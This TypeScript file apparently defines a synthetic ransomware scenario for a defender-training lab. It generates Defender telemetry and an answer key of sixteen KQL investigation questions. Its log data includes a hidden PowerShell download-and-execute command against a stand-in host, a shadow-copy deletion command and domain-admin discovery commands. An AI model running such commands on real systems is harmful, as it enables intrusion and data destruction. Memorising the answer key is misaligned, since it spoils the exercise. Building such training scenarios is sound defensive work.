/**
 * Human-operated ransomware (a second incident on the same tenant, a month after the lab): a phished
 * finance user runs a shortcut that starts PowerShell, a loader steals credentials from LSASS, the
 * operator moves to the file server with an IT admin's account (PsExec service), runs discovery,
 * deletes the shadow copies and encrypts the finance share. Alerts raise device risk, the
 * workstation becomes non-compliant and Conditional Access blocks its mail; the SOC isolates the
 * file server. Every identifier is synthetic.
 */
import { boot } from '../background.ts';
import { generate, type Incident } from '../generate.ts';
import { writeIdentityAndCloud } from '../identity.ts';
import { IMG, type Img } from '../images.ts';
import { guidOf, hexOf } from '../rng.ts';
import { ANALYST, type AlertDef, DC, type DeviceDef, POLICIES, type SignInAttempt, TENANT, UA, type UserDef, domainSid } from '../model.ts';
import { SEC, T } from '../time.ts';
import type { Dev, Proc, Sinks } from '../world.ts';
import type { Scenario, ScriptStep } from './types.ts';

const DAY0 = '2024-06-10';
const DAY1 = '2024-06-11';
const D1 = (t: string) => T(`${DAY1}T${t}`);
const Z = (t: string) => `${DAY1}T${t}Z`;

const SAM: UserDef = {
  key: 'sam',
  displayName: 'Sam Okafor',
  upn: 'sam.okafor@contoso.example',
  objectId: guidOf('ransomware:user:sam'),
  cloudSid: 'S-1-12-1-1387702631-1264981245-2860617876-2170223446',
  accountName: 'sam.okafor',
  onPremSid: domainSid(1241),
  department: 'Finance',
  jobTitle: 'Payroll Officer',
};
const PRIYA: UserDef = {
  key: 'priya',
  displayName: 'Priya Nair',
  upn: 'priya.nair@contoso.example',
  objectId: guidOf('ransomware:user:priya'),
  cloudSid: 'S-1-12-1-2094411720-1312880122-1936612758-3914229010',
  accountName: 'it.admin',
  onPremSid: domainSid(1107),
  department: 'IT',
  jobTitle: 'Systems Administrator',
};
const WS: DeviceDef = {
  key: 'WS',
  name: 'win10-fin03.corp.contoso.example',
  deviceId: hexOf('ransomware:device:ws', 40),
  aadDeviceId: guidOf('ransomware:aad:ws'),
  localIp: '10.20.0.43',
  publicIp: '198.51.100.40',
  joinType: 'Hybrid Azure AD Join',
  user: 'sam',
  osPlatform: 'Windows10',
  osBuild: 19045,
  osVersionInfo: '22H2',
  model: 'Latitude 5440',
  vendor: 'Dell Inc.',
  machineGroup: 'Finance',
};
const FS: DeviceDef = {
  key: 'FS',
  name: 'fs01.corp.contoso.example',
  deviceId: hexOf('ransomware:device:fs', 40),
  aadDeviceId: guidOf('ransomware:aad:fs'),
  localIp: '10.20.0.20',
  publicIp: '198.51.100.40',
  joinType: 'Domain Joined',
  user: 'priya',
  osPlatform: 'WindowsServer2019',
  osBuild: 17763,
  osVersionInfo: '1809',
  model: 'Virtual Machine',
  vendor: 'Microsoft Corporation',
  machineGroup: 'Servers',
  exposureLevel: 'Medium',
};

const PAYLOAD = { ip: '203.0.113.66', url: 'cdn.northwind-updates.example' };
const SENDER = { address: 'hr-notify@contoso-payroll.example', relay: '192.0.2.77', subject: 'Q2 bonus plan - action required' };
const LOADER: Img = { ...IMG.cmd, name: 'svcupd.exe', path: 'C:\\Users\\sam.okafor\\AppData\\Local\\Temp\\svcupd.exe', sha1: hexOf('ransomware:sha1:svcupd', 40), sha256: hexOf('ransomware:sha256:svcupd', 64), md5: hexOf('ransomware:md5:svcupd', 32), size: 241664, company: '', product: '', description: '', original: 'svcupd.exe', internal: 'svcupd', signer: '', alwaysSha256: true };
const LOCKER: Img = { ...LOADER, name: 'locker.exe', path: 'C:\\Windows\\Temp\\locker.exe', sha1: hexOf('ransomware:sha1:locker', 40), sha256: hexOf('ransomware:sha256:locker', 64), md5: hexOf('ransomware:md5:locker', 32), size: 188416, original: 'locker.exe', internal: 'locker' };
const PSEXESVC: Img = { ...IMG.cmd, name: 'PSEXESVC.exe', path: 'C:\\Windows\\PSEXESVC.exe', sha1: hexOf('ransomware:sha1:psexesvc', 40), sha256: hexOf('ransomware:sha256:psexesvc', 64), md5: hexOf('ransomware:md5:psexesvc', 32), size: 383968, company: 'Sysinternals - www.sysinternals.com', product: 'Sysinternals PsExec', description: 'PsExec Service', original: 'psexesvc.exe', internal: 'PSEXESVC' };
const VSSADMIN: Img = { ...IMG.cmd, name: 'vssadmin.exe', path: 'C:\\Windows\\System32\\vssadmin.exe', sha1: hexOf('sha1:c:\\windows\\system32\\vssadmin.exe', 40), sha256: hexOf('sha256:c:\\windows\\system32\\vssadmin.exe', 64), md5: hexOf('md5:c:\\windows\\system32\\vssadmin.exe', 32), size: 145920, description: 'Command Line Interface for Microsoft® Volume Shadow Copy Service', original: 'VSSADMIN.EXE', internal: 'VSSADMIN' };
const NET: Img = { ...IMG.cmd, name: 'net.exe', path: 'C:\\Windows\\System32\\net.exe', sha1: hexOf('sha1:c:\\windows\\system32\\net.exe', 40), sha256: hexOf('sha256:c:\\windows\\system32\\net.exe', 64), md5: hexOf('md5:c:\\windows\\system32\\net.exe', 32), size: 57344, description: 'Net Command', original: 'net.exe', internal: 'net' };
const NLTEST: Img = { ...NET, name: 'nltest.exe', path: 'C:\\Windows\\System32\\nltest.exe', sha1: hexOf('sha1:c:\\windows\\system32\\nltest.exe', 40), sha256: hexOf('sha256:c:\\windows\\system32\\nltest.exe', 64), md5: hexOf('md5:c:\\windows\\system32\\nltest.exe', 32), description: 'Microsoft® Logon Server Test Utility', original: 'nltestrk.exe', internal: 'nltest' };

/** The ZIP attached to the phishing mail (it holds the shortcut that starts PowerShell). */
const LURE = { name: 'Q2_bonus_plan.zip', sha256: hexOf('ransomware:sha256:lure', 64), size: 2318 };
const NOW = '2024-06-14T00:30:00Z';

const ENCRYPTED = 37;
const NOTE = 'README-RESTORE-FILES.txt';
const SHARE = 'D:\\Shares\\Finance\\';
const FILES = Array.from({ length: ENCRYPTED }, (_, i) => `${['Payroll', 'Budget', 'Invoices', 'Forecast', 'Vendors'][i % 5]}_2024_${String(i + 1).padStart(2, '0')}.${['xlsx', 'docx', 'pdf'][i % 3]}`);

const MDE = 'Microsoft Defender for Endpoint';
const closed = (t: string) => ({ inProgressAt: D1('09:45:00'), resolvedAt: D1(t), classification: 'TruePositive', determination: 'Malware', assignedTo: ANALYST, comment: 'Ransomware incident - contained, recovery from offline backup' });
const ALERTS: AlertDef[] = [
  { key: 'R1', alertId: 'da638536191120000001_1100220033', time: D1('09:05:40'), title: 'Suspicious access to LSASS service', category: 'CredentialAccess', severity: 'High', serviceSource: MDE, detectionSource: 'EDR', techniques: ['OS Credential Dumping (T1003)', 'LSASS Memory (T1003.001)'], deviceKey: 'WS', ...closed('12:10:00') },
  { key: 'R2', alertId: 'da638536200300000002_-220011445', time: D1('09:20:30'), title: 'Suspicious service installation on a remote device', category: 'LateralMovement', severity: 'Medium', serviceSource: MDE, detectionSource: 'EDR', techniques: ['Service Execution (T1569.002)', 'SMB/Windows Admin Shares (T1021.002)'], deviceKey: 'FS', ...closed('12:10:30') },
  { key: 'R3', alertId: 'da638536206700000003_877665544', time: D1('09:31:10'), title: 'File backups were deleted', category: 'Impact', severity: 'High', serviceSource: MDE, detectionSource: 'EDR', techniques: ['Inhibit System Recovery (T1490)'], deviceKey: 'FS', ...closed('12:11:00') },
  { key: 'R4', alertId: 'da638536207500000004_-990088776', time: D1('09:32:30'), title: 'Ransomware behavior detected in the file system', category: 'Ransomware', severity: 'High', serviceSource: MDE, detectionSource: 'EDR', techniques: ['Data Encrypted for Impact (T1486)'], deviceKey: 'FS', ...closed('12:11:30') },
];

const MACHINE_ACTIONS = [
  { id: guidOf('ransomware:action:isolate'), type: 'Isolate', title: 'Isolate device', scope: 'Full', comment: 'Ransomware on the file server', steps: [['Pending', D1('09:40:00')], ['Succeeded', D1('09:40:35')]] },
] as { id: string; type: string; title: string; scope: string; comment: string; steps: [string, number][] }[];

const SI = (t: string, resource: SignInAttempt['resource'], client: SignInAttempt['client'], clientAppUsed: SignInAttempt['clientAppUsed'], extra: Partial<SignInAttempt> = {}): SignInAttempt => ({
  time: D1(t),
  user: 'sam',
  device: 'WS',
  client,
  resource,
  clientAppUsed,
  session: clientAppUsed === 'Browser' ? 'WS-browser' : 'WS-desktop',
  ip: WS.publicIp,
  userAgent: clientAppUsed === 'Browser' ? UA.edge : UA.outlook,
  ...extra,
});
const SIGNINS: SignInAttempt[] = [
  SI('08:31:10', 'exchange', 'office', 'Mobile Apps and Desktop clients', { mfaCompletesAt: D1('08:31:31'), correlationId: guidOf('ransomware:corr:0831') }),
  SI('08:33:02', 'sharepoint', 'officeHome', 'Browser'),
  SI('09:24:45', 'exchange', 'office', 'Mobile Apps and Desktop clients', { correlationId: guidOf('ransomware:corr:0924') }),
  SI('09:26:12', 'exchange', 'owa', 'Browser'),
  SI('09:27:40', 'sharepoint', 'officeHome', 'Browser', { mfaCompletesAt: D1('09:28:05') }),
];

function alertRows(sinks: Sinks, a: AlertDef, dev: Dev, evidence: Record<string, unknown>[]): void {
  const common = { Timestamp: a.time, AlertId: a.alertId, Title: a.title, ServiceSource: a.serviceSource, DetectionSource: a.detectionSource, AttackTechniques: JSON.stringify(a.techniques), Severity: a.severity };
  sinks.AlertInfo.add({ ...common, Category: a.category });
  for (const e of [{ EntityType: 'Machine', EvidenceRole: 'Impacted', DeviceId: dev.id, DeviceName: dev.name }, ...evidence]) sinks.AlertEvidence.add({ ...common, Categories: JSON.stringify([a.category]), ...e });
}

const incident: Incident = {
  tenant: TENANT,
  day0: DAY0,
  analyst: ANALYST,
  users: [SAM, PRIYA],
  routineSignIns: [PRIYA],
  devices: [
    { def: WS, user: 'sam' },
    // servers carry no Intune compliance policy: the tenant default decides
    { def: FS, user: 'priya', intunePolicy: false },
  ],
  boot: (dev, em, days) => (dev.def.key === 'FS' ? boot(dev, em, days[0] + 2 * 3600 * SEC + 17 * 60 * SEC) : undefined),
  logon(dev, k, _days, dflt) {
    if (dev.def.key === 'WS' && k === 1) return { logonTime: D1('08:29:47.120'), logonId: 3917442 };
    return dflt();
  },
  run({ em, sinks, devByKey, sessions }) {
    const ws = devByKey.get('WS')!;
    const fs = devByKey.get('FS')!;
    const s = sessions.get('WS:1')!;
    const uo = { acct: s.acct, logonId: 3917442, integrity: 'Medium', session: 1 } as const;
    // the lure: a shortcut in a ZIP from the phishing mail starts PowerShell
    const ps = ws.spawn(s.explorer, IMG.powershell, D1('08:52:31.402'), `"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -w hidden -nop -c "iwr http://${PAYLOAD.url}/b.ps1 -UseBasicParsing | iex"`, { ...uo, pid: 6844 });
    em.process(ps);
    em.network(D1('08:52:33.118'), ps, 'ConnectionSuccess', { RemoteIP: PAYLOAD.ip, RemotePort: 80, RemoteUrl: PAYLOAD.url, LocalIP: WS.localIp, LocalPort: 50211, Protocol: 'Tcp', RemoteIPType: 'Public', LocalIPType: 'Private' });
    em.file(D1('08:52:44.870'), ps, 'FileCreated', { FileName: LOADER.name, FolderPath: LOADER.path, SHA1: LOADER.sha1, SHA256: LOADER.sha256, MD5: LOADER.md5, FileSize: LOADER.size });
    const loader = ws.spawn(ps, LOADER, D1('08:52:50.303'), `"${LOADER.path}" --svc`, { ...uo, pid: 7712 });
    em.process(loader);
    for (let i = 0; i < 8; i++) em.network(D1('08:53:02') + i * 300 * SEC, loader, 'ConnectionSuccess', { RemoteIP: PAYLOAD.ip, RemotePort: 443, RemoteUrl: PAYLOAD.url, LocalIP: WS.localIp, LocalPort: 50230 + i, Protocol: 'Tcp', RemoteIPType: 'Public', LocalIPType: 'Private' });
    // credential theft: the loader opens LSASS
    em.event(D1('09:05:12.551'), loader, 'OpenProcessApiCall', { FileName: 'lsass.exe', FolderPath: 'C:\\Windows\\System32\\lsass.exe', ProcessId: 784, AdditionalFields: { DesiredAccess: 4112 } });
    // lateral movement with the IT admin's account: network logon, PsExec service on the file server
    em.logon(D1('09:20:03.004'), fs.spawn(null, IMG.lsass, D1('09:20:03'), '', { pid: 812 }), 'LogonSuccess', { LogonType: 'Network', AccountDomain: 'corp', AccountName: PRIYA.accountName, AccountSid: PRIYA.onPremSid, RemoteIP: WS.localIp, RemoteDeviceName: WS.name, Protocol: 'NTLM', LogonId: 5550123, IsLocalAdmin: true });
    const services = fs.spawn(null, IMG.services, D1('09:20:04'), 'C:\\Windows\\system32\\services.exe', { pid: 640 });
    em.event(D1('09:20:05.210'), services, 'ServiceInstalled', { FileName: PSEXESVC.name, FolderPath: PSEXESVC.path, AdditionalFields: { ServiceName: 'PSEXESVC', ServiceStartType: 3, ServiceType: 16, ServiceAccount: 'LocalSystem' } });
    const admin = { acct: { domain: 'corp', name: PRIYA.accountName, sid: PRIYA.onPremSid!, upn: PRIYA.upn, objectId: PRIYA.objectId }, logonId: 5550123, integrity: 'High', session: 0 } as const;
    const psexe = fs.spawn(services, PSEXESVC, D1('09:20:06.002'), PSEXESVC.path, { pid: 3320 });
    em.process(psexe);
    const cmd = fs.spawn(psexe, IMG.cmd, D1('09:20:07.448'), '"cmd.exe"', { ...admin, pid: 4412 });
    em.process(cmd);
    const disc: [string, Img, string][] = [
      ['09:22:10.019', NET, 'net  group "domain admins" /domain'],
      ['09:22:41.337', NLTEST, 'nltest  /dclist:corp.contoso.example'],
      ['09:23:05.902', NET, 'net  share'],
    ];
    let pid = 5100;
    for (const [t, img, c] of disc) em.process(fs.spawn(cmd, img, D1(t), c, { ...admin, pid: (pid += 8) }));
    em.file(D1('09:29:40.115'), cmd, 'FileCreated', { FileName: LOCKER.name, FolderPath: LOCKER.path, SHA1: LOCKER.sha1, SHA256: LOCKER.sha256, MD5: LOCKER.md5, FileSize: LOCKER.size });
    em.process(fs.spawn(cmd, VSSADMIN, D1('09:31:00.640'), 'vssadmin.exe  delete shadows /all /quiet', { ...admin, pid: 5388 }));
    const locker = fs.spawn(cmd, LOCKER, D1('09:31:55.020'), `"${LOCKER.path}" -path ${SHARE} -ext .lockd`, { ...admin, pid: 5444 });
    em.process(locker);
    FILES.forEach((f, i) => {
      const t = D1('09:32:00') + i * 1_620_000;
      em.file(t, locker, 'FileRenamed', { FileName: `${f}.lockd`, FolderPath: `${SHARE}${f}.lockd`, PreviousFileName: f, PreviousFolderPath: `${SHARE}${f}`, SHA1: hexOf(`ransomware:enc:${f}`, 40), FileSize: 20480 + i * 512 });
    });
    em.file(D1('09:33:01.500'), locker, 'FileCreated', { FileName: NOTE, FolderPath: `${SHARE}${NOTE}`, SHA1: hexOf('ransomware:note', 40), FileSize: 1874 });
    // alerts and their evidence
    const pe = (p: Proc, role: string) => ({ EntityType: 'Process', EvidenceRole: role, FileName: p.img.name, FolderPath: p.img.path, SHA1: p.img.sha1, SHA256: p.img.sha256, ProcessCommandLine: p.cmd, DeviceId: p.dev.id, DeviceName: p.dev.name, AdditionalFields: { ProcessId: p.pid, CreationTimeUtc: new Date(Math.floor(p.created / 1000)).toISOString() } });
    const user = (u: UserDef, domain: string, name: string, sid: string) => ({ EntityType: 'User', EvidenceRole: 'Impacted', AccountName: name, AccountDomain: domain, AccountSid: sid, AccountObjectId: u.objectId, AccountUpn: u.upn });
    alertRows(sinks, ALERTS[0], ws, [pe(loader, 'Related'), user(SAM, 'corp', SAM.accountName, SAM.onPremSid!)]);
    alertRows(sinks, ALERTS[1], fs, [pe(psexe, 'Related'), { EntityType: 'Ip', EvidenceRole: 'Related', RemoteIP: WS.localIp }, user(PRIYA, 'corp', PRIYA.accountName, PRIYA.onPremSid!)]);
    alertRows(sinks, ALERTS[2], fs, [{ EntityType: 'Process', EvidenceRole: 'Related', FileName: VSSADMIN.name, FolderPath: VSSADMIN.path, SHA1: VSSADMIN.sha1, ProcessCommandLine: 'vssadmin.exe  delete shadows /all /quiet', DeviceId: fs.id, DeviceName: fs.name }]);
    alertRows(sinks, ALERTS[3], fs, [pe(locker, 'Related'), { EntityType: 'File', EvidenceRole: 'Related', FileName: LOCKER.name, FolderPath: LOCKER.path, SHA1: LOCKER.sha1, SHA256: LOCKER.sha256 }]);
  },
  alerts: ALERTS,
  checkins: { WS: [T(`${DAY0}T06:40:00`), D1('09:12:00'), D1('13:05:00'), T('2024-06-12T07:15:00'), T('2024-06-13T07:20:00')] },
  signins: SIGNINS,
  mfaEvents: [],
  machineActions: MACHINE_ACTIONS,
  responseDevice: 'FS',
  isolation: [{ from: D1('09:40:35'), to: T('2024-06-12T16:00:00') }],
  // the tenant's identity, mail and cloud background with the scenario's phishing mail, and what
  // Defender for Identity sees on the domain controller during the lateral movement
  finish(c) {
    writeIdentityAndCloud(c, {
      tenant: TENANT,
      now: NOW,
      dc: DC,
      users: [SAM, PRIYA],
      hybrid: () => true,
      mail(mail) {
        for (const [i, u] of [SAM, PRIYA].entries()) {
          const t = D1('08:47:10') + i * 1_000_000;
          const junk = i === 1;
          const nmid = mail(t, SENDER.address, u, SENDER.subject, {
            NetworkMessageId: guidOf(`ransomware:mail:${u.key}`),
            InternetMessageId: `<q2bonus.${u.key}@contoso-payroll.example>`,
            SenderDisplayName: 'HR Notifications',
            SenderIPv4: SENDER.relay,
            DeliveryAction: junk ? 'Junked' : 'Delivered',
            DeliveryLocation: junk ? 'Junk folder' : 'Inbox/folder',
            LatestDeliveryAction: junk ? 'Junked' : 'Delivered',
            LatestDeliveryLocation: junk ? 'Junk folder' : 'Inbox/folder',
            ThreatTypes: junk ? 'Phish' : '',
            DetectionMethods: junk ? '{"Phish":["Domain impersonation"]}' : '',
            ConfidenceLevel: junk ? '{"Phish":"Normal","Spam":"Low"}' : '{"Phish":"Low","Spam":"Low"}',
            AuthenticationDetails: '{"SPF":"pass","DKIM":"none","DMARC":"none","CompAuth":"softpass"}',
            AdditionalFields: { IsFirstContact: true },
            AttachmentCount: 1,
            UrlCount: 0,
          });
          c.sinks.EmailAttachmentInfo.add({
            Timestamp: t,
            NetworkMessageId: nmid,
            SenderFromAddress: SENDER.address,
            SenderDisplayName: 'HR Notifications',
            RecipientEmailAddress: u.upn,
            RecipientObjectId: u.objectId,
            FileName: LURE.name,
            FileType: 'zip',
            SHA256: LURE.sha256,
            FileSize: LURE.size,
            ThreatTypes: junk ? 'Phish' : '',
            ThreatNames: '',
            DetectionMethods: '',
            FileExtension: 'zip',
          });
        }
      },
      adfs({ sinks }) {
        const who = { AccountName: PRIYA.accountName, AccountDomain: 'corp.contoso.example', AccountUpn: PRIYA.upn, AccountSid: PRIYA.onPremSid!, AccountObjectId: PRIYA.objectId, AccountDisplayName: PRIYA.displayName };
        sinks.IdentityLogonEvents.add({ Timestamp: D1('09:20:03.120'), ActionType: 'LogonSuccess', Application: 'Active Directory', LogonType: 'Resource access', Protocol: 'Ntlm', FailureReason: '', ...who, DeviceName: WS.name, DeviceType: 'Desktop', OSPlatform: WS.osPlatform, IPAddress: WS.localIp, Port: 50288, DestinationDeviceName: DC.name, DestinationIPAddress: DC.ip, DestinationPort: 445, TargetDeviceName: FS.name, TargetAccountDisplayName: '', Location: '', Isp: '', AdditionalFields: { Count: 1, 'NTLM V1': false } });
        sinks.IdentityQueryEvents.add({ Timestamp: D1('09:22:10.402'), ActionType: 'SAMR query', Application: 'Active Directory', QueryType: 'QueryGroup', QueryTarget: 'Domain Admins', Query: 'QueryGroup', Protocol: 'Samr', ...who, DeviceName: FS.name, IPAddress: FS.localIp, Port: 50412, DestinationDeviceName: DC.name, DestinationIPAddress: DC.ip, DestinationPort: 445, TargetDeviceName: '', TargetAccountUpn: '', TargetAccountDisplayName: 'Domain Admins', Location: '', AdditionalFields: { SourceComputerOperatingSystem: FS.osPlatform } });
        sinks.IdentityQueryEvents.add({ Timestamp: D1('09:22:41.520'), ActionType: 'DNS query', Application: 'Active Directory', QueryType: 'Srv', QueryTarget: '_ldap._tcp.dc._msdcs.corp.contoso.example', Query: '_ldap._tcp.dc._msdcs.corp.contoso.example', Protocol: 'Dns', ...who, DeviceName: FS.name, IPAddress: FS.localIp, Port: 50431, DestinationDeviceName: DC.name, DestinationIPAddress: DC.ip, DestinationPort: 53, TargetDeviceName: '', TargetAccountUpn: '', TargetAccountDisplayName: '', Location: '', AdditionalFields: { SourceComputerOperatingSystem: FS.osPlatform } });
      },
    });
  },
};

const step = (at: string, table: string, what: string): ScriptStep => ({ at, table, what });

export const ransomware: Scenario = {
  id: 'ransomware',
  title: 'Night of the locked finance share',
  difficulty: 'intermediate',
  description: 'Synthetic incident: phishing shortcut -> PowerShell loader -> LSASS access -> PsExec to the file server -> shadow copies deleted -> finance share encrypted; risk, compliance and Conditional Access react; the SOC isolates the server. All identifiers are synthetic.',
  briefing: 'docs/scenarios/ransomware.md',
  now: NOW,
  cast: {
    tenant: TENANT,
    users: [SAM, PRIYA],
    devices: [WS, FS],
    files: [LOADER, LOCKER].map((f) => ({ name: f.name, folder: f.path.slice(0, f.path.lastIndexOf('\\') + 1), size: f.size, md5: f.md5, sha1: f.sha1, sha256: f.sha256 })),
    ips: [
      { ip: PAYLOAD.ip, role: `payload and command and control (${PAYLOAD.url})` },
      { ip: SENDER.relay, role: `mail relay of ${SENDER.address}` },
    ],
  },
  script: [
    step(Z('08:47:10'), 'EmailEvents', 'phishing mail delivered to Sam'),
    step(Z('08:47:10'), 'EmailAttachmentInfo', 'its ZIP attachment'),
    step(Z('08:52:31.402'), 'DeviceProcessEvents', 'explorer.exe starts hidden PowerShell'),
    step(Z('08:52:44.870'), 'DeviceFileEvents', 'loader written to Temp'),
    step(Z('08:52:50.303'), 'DeviceProcessEvents', 'loader started'),
    step(Z('09:05:12.551'), 'DeviceEvents', 'loader opens lsass.exe'),
    step(Z('09:05:40'), 'AlertInfo', 'alert R1 (High)'),
    step(Z('09:12:00'), 'DeviceComplianceEvents', 'workstation non-compliant'),
    step(Z('09:20:03.004'), 'DeviceLogonEvents', 'network logon on the file server with the IT admin account'),
    step(Z('09:20:03.120'), 'IdentityLogonEvents', 'Defender for Identity: NTLM authentication of the IT admin account from the workstation'),
    step(Z('09:20:05.210'), 'DeviceEvents', 'PSEXESVC service installed'),
    step(Z('09:22:10.402'), 'IdentityQueryEvents', 'SAMR query for the Domain Admins group from the file server'),
    step(Z('09:24:45'), 'AADSignInEventsBeta', "Sam's Outlook blocked (53000)"),
    step(Z('09:31:00.640'), 'DeviceProcessEvents', 'shadow copies deleted'),
    step(Z('09:32:00'), 'DeviceFileEvents', 'first file encrypted'),
    step(Z('09:40:35'), 'MachineActions', 'file server isolated'),
  ],
  policies: POLICIES,
  questions: [
    { id: '1', text: 'Which user received the phishing mail in their inbox? (UPN)', answerType: 'text', answer: SAM.upn, kql: `EmailEvents\n| where Subject == "${SENDER.subject}" and DeliveryAction == "Delivered"\n| distinct RecipientEmailAddress`, hints: ['EmailEvents has one row per recipient, with DeliveryAction and DeliveryLocation.', 'Look for an external sender imitating an internal department.'] },
    { id: '2', text: 'Which process started the hidden PowerShell on the workstation? (file name)', answerType: 'text', answer: 'explorer.exe', kql: `DeviceProcessEvents\n| where DeviceName == "${WS.name}" and FileName =~ "powershell.exe" and ProcessCommandLine has "iex"\n| distinct InitiatingProcessFileName`, hints: ['Look for PowerShell command lines that download and run code (iwr … | iex).'] },
    { id: '3', text: 'From which domain did PowerShell download its next stage?', answerType: 'text', answer: PAYLOAD.url, kql: `DeviceNetworkEvents\n| where DeviceName == "${WS.name}" and InitiatingProcessFileName =~ "powershell.exe" and RemotePort == 80\n| distinct RemoteUrl`, hints: ['Network connections name their process in InitiatingProcessFileName.'] },
    { id: '4', text: 'What is the SHA1 of the loader PowerShell dropped and ran?', answerType: 'hash', answer: LOADER.sha1, kql: `DeviceProcessEvents\n| where DeviceName == "${WS.name}" and InitiatingProcessFileName =~ "powershell.exe" and InitiatingProcessCommandLine has "iex"\n| distinct SHA1`, hints: ['Children of the PowerShell process are in DeviceProcessEvents.'], view: `#/file/${LOADER.sha1}` },
    { id: '5', text: 'Which process did the loader open to steal credentials? (file name)', answerType: 'text', answer: 'lsass.exe', kql: `DeviceEvents\n| where DeviceName == "${WS.name}" and ActionType == "OpenProcessApiCall" and InitiatingProcessFileName =~ "svcupd.exe"\n| distinct FileName`, hints: ['Process access is recorded in DeviceEvents as OpenProcessApiCall.'] },
    { id: '6', text: 'With which account did the attacker log on to the file server? (account name)', answerType: 'text', answer: PRIYA.accountName, kql: `DeviceLogonEvents\n| where DeviceName == "${FS.name}" and LogonType == "Network" and RemoteIP == "${WS.localIp}"\n| distinct AccountName`, hints: ['Remote logons are in DeviceLogonEvents with LogonType Network and the source in RemoteIP.', "The source is the phished user's workstation."] },
    { id: '7', text: 'Which service was installed on the file server for remote execution? (service file name)', answerType: 'text', answer: 'PSEXESVC.exe', kql: `DeviceEvents\n| where DeviceName == "${FS.name}" and ActionType == "ServiceInstalled"\n| distinct FileName`, hints: ['Service installations are DeviceEvents rows with ActionType ServiceInstalled.'] },
    { id: '8', text: 'Which discovery tools did the operator run on the file server? (file names)', answerType: 'list', answer: ['net.exe', 'nltest.exe'], kql: `DeviceProcessEvents\n| where DeviceName == "${FS.name}" and InitiatingProcessFileName =~ "cmd.exe" and InitiatingProcessParentFileName =~ "PSEXESVC.exe"\n| where FileName in~ ("net.exe", "nltest.exe", "whoami.exe", "ipconfig.exe", "systeminfo.exe")\n| distinct FileName`, hints: ['Follow the children of the cmd.exe that PSEXESVC.exe started.'] },
    { id: '9', text: 'When were the shadow copies on the file server deleted? (UTC time)', answerType: 'time', answer: Z('09:31:00'), kql: `DeviceProcessEvents\n| where DeviceName == "${FS.name}" and FileName =~ "vssadmin.exe" and ProcessCommandLine has "delete shadows"\n| project Timestamp`, hints: ['vssadmin.exe delete shadows removes the Volume Shadow Copies.', 'Admins delete old shadow copies too, to free disk space: look at the file server.'] },
    { id: '10', text: 'How many files on the finance share were encrypted (renamed by the ransomware)?', answerType: 'number', answer: ENCRYPTED, kql: `DeviceFileEvents\n| where DeviceName == "${FS.name}" and ActionType == "FileRenamed" and InitiatingProcessFileName =~ "locker.exe"\n| count`, hints: ['Encryption shows as FileRenamed rows with a new extension.'] },
    { id: '11', text: 'What extension did the ransomware append to encrypted files?', answerType: 'text', answer: '.lockd', kql: `DeviceFileEvents\n| where DeviceName == "${FS.name}" and ActionType == "FileRenamed" and InitiatingProcessFileName =~ "locker.exe"\n| extend Ext = strcat(".", tostring(split(FileName, ".")[-1]))\n| distinct Ext`, hints: ['Compare FileName with PreviousFileName.'] },
    { id: '12', text: 'Which alert raised the workstation to High risk? (AlertId)', answerType: 'text', answer: ALERTS[0].alertId, kql: `DeviceRiskEvents\n| where DeviceName == "${WS.name}" and RiskScore == "High"\n| project TriggerAlertId`, hints: ['DeviceRiskEvents is a side table recording each risk change and its trigger.'], view: `#/alert/${ALERTS[0].alertId}` },
    { id: '13', text: "How many of Sam's sign-ins were blocked because the workstation was non-compliant (error 53000)?", answerType: 'number', answer: 2, kql: `AADSignInEventsBeta\n| where AccountUpn == "${SAM.upn}" and ErrorCode == 53000\n| count`, hints: ['Sign-in rows carry ErrorCode; 53000 means a compliant device was required.'], view: `#/signin/${guidOf('ransomware:corr:0924')}` },
    { id: '14', text: 'When did the file server isolation succeed? (UTC time)', answerType: 'time', answer: Z('09:40:35'), kql: `MachineActions\n| where Type == "Isolate" and Status == "Succeeded"\n| project Timestamp`, hints: ['Response actions are in the MachineActions side table.'] },
    { id: '15', text: 'Defender for Identity saw the operator enumerate a group from the file server over SAMR. Which group?', answerType: 'text', answer: 'Domain Admins', kql: `IdentityQueryEvents\n| where ActionType == "SAMR query" and DeviceName == "${FS.name}"\n| distinct QueryTarget`, hints: ['Defender for Identity records directory reconnaissance against the domain controller in IdentityQueryEvents.', 'net group … /domain asks the domain controller over SAMR.'] },
    { id: '16', text: "Which Conditional Access policy blocked Sam's mail client once the workstation was non-compliant? (policy name)", answerType: 'text', answer: POLICIES.ca[1].displayName, kql: `SigninLogs\n| where UserPrincipalName == "${SAM.upn}" and ResultType == "53000"\n| mv-expand Policy = ConditionalAccessPolicies\n| where tostring(Policy.result) == "failure"\n| distinct PolicyName = tostring(Policy.displayName)`, hints: ['SigninLogs lists every evaluated Conditional Access policy in ConditionalAccessPolicies, with its result.', 'Expand the array with mv-expand and keep the policies whose result is failure.'], view: `#/signin/${guidOf('ransomware:corr:0924')}` },
  ],
  generate: (opts) => generate({ ...opts, policies: opts.policies ?? POLICIES }, incident),
};
